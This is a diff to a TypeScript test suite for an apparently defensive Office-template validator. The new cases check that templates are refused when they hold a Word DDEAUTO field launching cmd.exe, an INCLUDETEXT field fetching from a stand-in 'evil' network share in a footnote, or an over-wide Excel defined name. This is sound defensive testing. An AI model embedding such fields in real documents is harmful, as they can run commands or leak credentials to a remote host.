@@ -206,8 +206,14 @@ describe("refused, with nothing left", () => {
       "</Relationships>",
       `<Relationship Id="rEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
     );
+  const CHAR = (type: string) => `<w:fldChar w:fldCharType="${type}"/>`;
+  const NOTES = '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"></w:footnotes>';
   const field = (instruction: string) => (old: string) =>
-    old.replace("</w:body>", `<w:p><w:r><w:instrText>${instruction}</w:instrText></w:r></w:p></w:body>`);
+    old.replace(
+      /<\/w:(?:body|footnotes)>/,
+      (end) =>
+        `<w:p><w:r>${CHAR("begin")}</w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r>${CHAR("end")}</w:r></w:p>${end}`,
+    );
   const inSheet = (xml: string) => (old: string) => old.replace("</sheetData>", `</sheetData>${xml}`);
   const RELS = "word/_rels/document.xml.rels";
   const SHEET = "xl/worksheets/sheet1.xml";
@@ -255,6 +261,20 @@ describe("refused, with nothing left", () => {
       "INVALID",
       "templateForeign",
     ],
+    [
+      "a field that fetches, right after another",
+      "一.docx",
+      () => changed(word, { "word/document.xml": (old) => field("DDEAUTO c:\\\\cmd.exe")(field("PAGE")(old)) }),
+      "INVALID",
+      "templateForeign",
+    ],
+    [
+      "a field that fetches, in a footnote",
+      "一.docx",
+      () => changed(word, { "word/footnotes.xml": field("INCLUDETEXT \\\\\\\\evil\\\\share")(NOTES) }),
+      "INVALID",
+      "templateForeign",
+    ],
     ["a formula", "一.xlsx", () => bookTemplate([ROW, [{ formula: "SUM(A1:A2)" }]]), "INVALID", "templateFormula"],
     [
       "a whole sheet merged",
@@ -269,6 +289,20 @@ describe("refused, with nothing left", () => {
       () =>
         changed(book, {
           [SHEET]: inSheet('<dataValidations><dataValidation sqref="A1:XFD1048576"/></dataValidations>'),
+        }),
+      "INVALID",
+      "templateTooWide",
+    ],
+    [
+      "a name for a hundred thousand rows",
+      "一.xlsx",
+      () =>
+        changed(book, {
+          "xl/workbook.xml": (old) =>
+            old.replace(
+              "</sheets>",
+              "</sheets><definedNames><definedName name='a'>本局格式!$A$1:$T$100000</definedName></definedNames>",
+            ),
         }),
       "INVALID",
       "templateTooWide",
